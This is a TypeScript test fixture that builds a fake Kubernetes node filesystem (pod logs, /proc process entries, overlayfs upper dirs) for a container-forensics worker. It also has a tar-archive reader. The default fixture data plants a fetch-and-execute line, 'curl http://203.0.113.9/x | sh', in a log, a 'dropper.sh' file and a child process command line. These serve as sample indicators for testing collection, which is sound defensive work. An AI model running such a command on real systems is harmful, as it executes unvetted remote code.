/**
 * A directory fixture of a node's filesystem, as the worker sees it under its host root: the
 * kubelet's `/var/log/pods/<ns>_<pod>_<uid>/<container>/` (current, previous and rotated logs),
 * `/proc/<pid>` for each running container's processes (cmdline, environ, status, stat, maps, fd/,
 * mountinfo with the overlay root, net/), and each container's overlayfs upper dir.
 * The stand-in for a node where no container runtime can run (containerd.test.ts covers a real one).
 */
import { mkdirSync, mkdtempSync, rmSync, symlinkSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import type { PodRef } from '../src/worker/runtime.js';

export interface FixtureContainer {
  name: string;
  /** Running containers get /proc entries and an upper dir. */
  pid?: number;
  /** Child processes of the init process. */
  children?: number[];
  /** Log files to write (name -> content); default a current and a previous log. */
  logs?: Record<string, string | Buffer> | null;
  /** Files in the upper dir (path -> content). */
  upper?: Record<string, string>;
}

const created: string[] = [];

/** Removes every fixture this test file made (call from afterAll). */
export function removeNodeFixtures(): void {
  for (const root of created.splice(0)) rmSync(root, { recursive: true, force: true });
}

export function nodeFixture(pod: PodRef, containers: FixtureContainer[]): string {
  const root = mkdtempSync(join(tmpdir(), 'kf-node-'));
  created.push(root);
  const write = (path: string, content: string | Buffer) => {
    mkdirSync(join(root, path, '..'), { recursive: true });
    writeFileSync(join(root, path), content);
  };
  let snapshot = 0;
  for (const c of containers) {
    if (c.logs !== null) {
      const logs = c.logs ?? {
        '0.log': `2026-01-01T00:00:00.000000000Z stdout F ${c.name} previous run\n`,
        '1.log': `2026-01-01T00:01:00.000000000Z stdout F ${c.name} started\n2026-01-01T00:01:01.000000000Z stderr F suspicious: curl http://203.0.113.9/x | sh\n`,
      };
      for (const [file, content] of Object.entries(logs)) {
        write(`var/log/pods/${pod.namespace}_${pod.name}_${pod.uid}/${c.name}/${file}`, content);
      }
    }
    if (c.pid === undefined) continue;
    snapshot++;
    const upper = `var/lib/containerd/io.containerd.snapshotter.v1.overlayfs/snapshots/${snapshot}/fs`;
    mkdirSync(join(root, upper), { recursive: true });
    for (const [path, content] of Object.entries(
      c.upper ?? { 'tmp/dropper.sh': '#!/bin/sh\ncurl http://203.0.113.9/x | sh\n' },
    )) {
      write(`${upper}/${path}`, content);
    }
    for (const pid of [c.pid, ...(c.children ?? [])]) {
      const dir = `proc/${pid}`;
      const ppid = pid === c.pid ? 1 : c.pid;
      write(
        `${dir}/cmdline`,
        pid === c.pid ? `/bin/${c.name}\0--serve\0` : 'sh\0-c\0curl http://203.0.113.9/x | sh\0',
      );
      write(`${dir}/environ`, `PATH=/usr/bin\0HOSTNAME=${pod.name}\0`);
      write(`${dir}/status`, `Name:\t${c.name}\nPid:\t${pid}\nPPid:\t${ppid}\n`);
      write(`${dir}/stat`, `${pid} (${c.name} (x)) S ${ppid} ${pid} ${pid} 0 -1\n`);
      write(`${dir}/maps`, '00400000-00452000 r-xp 00000000 08:02 173521 /bin/app\n');
      mkdirSync(join(root, dir, 'fd'), { recursive: true });
      symlinkSync('/dev/null', join(root, dir, 'fd', '0'));
      symlinkSync('socket:[12345]', join(root, dir, 'fd', '3'));
      write(
        `${dir}/mountinfo`,
        `22 1 0:21 / /proc rw - proc proc rw\n` +
          `640 600 0:52 / / rw,relatime master:1 - overlay overlay rw,lowerdir=/var/lib/containerd/io.containerd.snapshotter.v1.overlayfs/snapshots/900/fs,upperdir=/${upper},workdir=/${upper}/../work\n`,
      );
      write(`${dir}/net/tcp`, '  sl  local_address rem_address   st\n   0: 0100007F:1F90 090071CB:0050 01\n');
      write(`${dir}/net/unix`, 'Num       RefCount Protocol Flags    Type St Inode Path\n');
    }
  }
  // An unrelated host process, which must not show up in the container's process state.
  write('proc/1/stat', '1 (systemd) S 0 1 1 0 -1\n');
  write('proc/1/cmdline', '/sbin/init\0');
  return root;
}

/** Lists the entries of a tar archive (name, type, size, content of small regular files). */
export function readTar(buf: Buffer): { name: string; type: string; size: number; content?: string }[] {
  const out: { name: string; type: string; size: number; content?: string }[] = [];
  let off = 0;
  let paxPath: string | undefined;
  while (off + 512 <= buf.length) {
    const h = buf.subarray(off, off + 512);
    if (h.every((b) => b === 0)) break;
    const name = h.subarray(0, 100).toString('utf8').replace(/\0.*$/s, '');
    const size = Number.parseInt(
      h.subarray(124, 136).toString('ascii').replace(/\0.*$/s, '').trim() || '0',
      8,
    );
    const type = String.fromCharCode(h[156]!);
    const data = buf.subarray(off + 512, off + 512 + size);
    off += 512 + Math.ceil(size / 512) * 512;
    if (type === 'x') {
      paxPath = /\d+ path=(.*)\n/.exec(data.toString('utf8'))?.[1];
      continue;
    }
    out.push({
      name: paxPath ?? name,
      type,
      size,
      ...(type === '0' ? { content: data.toString('utf8') } : {}),
    });
    paxPath = undefined;
  }
  return out;
}
